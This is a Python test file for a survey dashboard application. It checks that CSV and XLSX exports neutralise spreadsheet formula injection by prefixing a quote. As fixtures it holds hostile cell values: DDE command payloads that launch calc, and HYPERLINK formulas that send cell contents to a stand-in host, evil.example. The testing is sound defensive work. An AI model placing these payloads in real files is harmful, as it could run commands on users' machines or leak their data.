"""Issue 11 §1: no export hands a spreadsheet a live formula.  Hostile unit, agency and service point names
(entered by an administrator) and a hostile citizen comment go through every CSV/XLSX route and CLI export;
no XLSX cell may be a formula and no CSV cell may start with a formula character (OWASP: `'` prefix)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from survey.dashboard.sheets import SHEET_LABELS
from survey.respond.store import Submission, store_response
from survey.spreadsheets import TRIGGERS, csv_text, dangerous, neutralise
from tests.dashboard.hakit import login
from tests.results.factories import city_with_responses

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {
    "unit:NK": "+cmd|' /C calc'!A0",
    "agency:UBND-NK": HYPERLINK,
    "agency:STP": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sp:UBND-BT-SP1": "-2+3+cmd|' /C calc'!A0",
    "unit:BT": "\t=1+1",
}
COMMENT = '=HYPERLINK("http://evil.example/steal","Bấm vào đây")'


@pytest.fixture
def hostile(app, db_session):
    app.config.update(HAILONG_BOOTSTRAP_B=20)
    data = city_with_responses(db_session, per_point=32, comments=False)
    city = data.city
    for key, name in HOSTILE.items():
        kind, code = key.split(":")
        obj = {"unit": city.units, "agency": city.agencies, "sp": city.service_points}[kind][code]
        obj.name_vi = obj.name_en = name
    for code in ("UBND-NK-SP1", "UBND-BT-SP1"):
        store_response(db_session, Submission(
            service_point_id=city.service_points[code].id, questionnaire_version_id=data.qv_id,
            answers={"C.ATT": 2, "C.HANDLING": 3, "COMMENT": COMMENT}, channel="paper",
            client_id=str(uuid.uuid4()), submitted_at=data.months[0] - timedelta(days=1)))
    db_session.commit()
    return data


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _check_csv(text: str, seen: set[str]) -> None:
    for cell in _csv_cells(text):
        assert not dangerous(cell), f"live formula in a CSV cell: {cell!r}"
        if cell.startswith("'") and cell[1:] in (*HOSTILE.values(), COMMENT):
            seen.add(cell[1:])


def _check_xlsx(data: bytes, seen: set[str]) -> None:
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value in (*HOSTILE.values(), COMMENT):
                    seen.add(cell.value)  # kept verbatim, as text


def _get(client, url: str):
    resp = client.get(url)
    assert resp.status_code == 200, (url, resp.status_code)
    return resp


def test_every_export_route_writes_hostile_text_as_text(app, client, hostile, db_session):
    city = hostile.city
    seen_csv: set[str] = set()
    seen_xlsx: set[str] = set()
    login(client, "admin")
    nk, bt = city.units["NK"].id, city.units["BT"].id
    dashboards = ["/dashboard/", "/dashboard/agency/UBND-NK", "/dashboard/agency/STP",
                  "/dashboard/agency/UBND-NK/comments", "/dashboard/agency/UBND-BT/comments",
                  "/dashboard/topics/"]  # comment topics across agencies (issue 15)
    for url in dashboards:
        sep = "&" if "?" in url else "?"
        _check_csv(_get(client, f"{url}{sep}format=csv").get_data(as_text=True), seen_csv)
        _check_xlsx(_get(client, f"{url}{sep}format=xlsx").data, seen_xlsx)
    views = ["view=index", f"view=unit&unit_id={nk}", f"view=unit&unit_id={bt}",
             f"view=agency&agency_id={city.agencies['UBND-NK'].id}"]
    tables = 0
    for view in views:
        _check_xlsx(_get(client, f"/homeaffairs/export.xlsx?{view}").data, seen_xlsx)
        for table in SHEET_LABELS:
            resp = client.get(f"/homeaffairs/export.csv?{view}&table={table}")
            if resp.status_code == 404:
                continue  # a table this view does not show
            assert resp.status_code == 200
            tables += 1
            _check_csv(resp.get_data(as_text=True), seen_csv)
    assert tables >= 4
    _check_xlsx(_get(client, "/homeaffairs/report/report.xlsx").data, seen_xlsx)
    _check_csv(_get(client, "/admin/tree/export.csv").get_data(as_text=True), seen_csv)
    _check_csv(_get(client, f"/admin/paper/template/{hostile.qv_id}.csv").get_data(as_text=True), seen_csv)
    # every hostile name and the comment reached some file, neutralised rather than dropped
    assert seen_xlsx == {*HOSTILE.values(), COMMENT}
    assert seen_csv == {*HOSTILE.values(), COMMENT}


def test_cli_exports_neutralise_text_cells(app, runner, hostile, db_session, tmp_path: Path):
    seen: set[str] = set()
    tree = tmp_path / "tree.csv"
    result = runner.invoke(args=["org", "export", "--format", "csv", "--output", str(tree)])
    assert result.exit_code == 0, result.output
    _check_csv(tree.read_text(encoding="utf-8"), seen)
    assert seen == set(HOSTILE.values())
    # the tree export reads back unchanged: the `'` is undone on import
    result = runner.invoke(args=["org", "import", str(tree)])
    assert result.exit_code == 0, result.output
    db_session.expire_all()
    assert hostile.city.units["NK"].name_vi == HOSTILE["unit:NK"]
    assert hostile.city.agencies["UBND-NK"].name_vi == HYPERLINK
    # the analysis exchange file: codes are text (a hostile code is neutralised), answers stay numbers
    sp = hostile.city.service_points["UBND-BT-SP1"]
    sp.code = "-SP=1+1"
    db_session.commit()
    out = tmp_path / "responses.csv"
    result = runner.invoke(args=["responses", "export", "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {r["service_point"] for r in rows} >= {"'-SP=1+1"}
    assert all(not dangerous(c) for r in rows for c in r.values())
    assert {r["C.ATT"] for r in rows} <= {"1", "2", "3", ""}  # numbers unchanged
    # the invitation CLI writes its CSV through the same writer
    sp.code = "@SP1"
    db_session.commit()
    result = runner.invoke(args=["invitations", "create", "--service-point", "@SP1", "--count", "2", "--expires", "5",
                                  "--instrument", "counter-quick", "--output-dir", str(tmp_path)])
    assert result.exit_code == 0, result.output
    links = next(tmp_path.glob("invitations-*.csv")).read_text(encoding="utf-8")
    assert all(not dangerous(c) for c in _csv_cells(links)) and "'@SP1" in links


def test_writer_rule():
    for trigger in TRIGGERS:
        assert neutralise(trigger + "x") == "'" + trigger + "x"
    assert neutralise(-3.5) == -3.5 and neutralise(-3) == -3  # numbers stay numbers
    assert neutralise("-3,5") == "-3,5" and neutralise("+84") == "+84"  # a plain number is not a formula
    assert neutralise("Sở Tư pháp") == "Sở Tư pháp" and neutralise("") == ""
    assert csv_text([["=1+1", 2, None, "-1"]]) == "'=1+1,2,,-1\r\n"
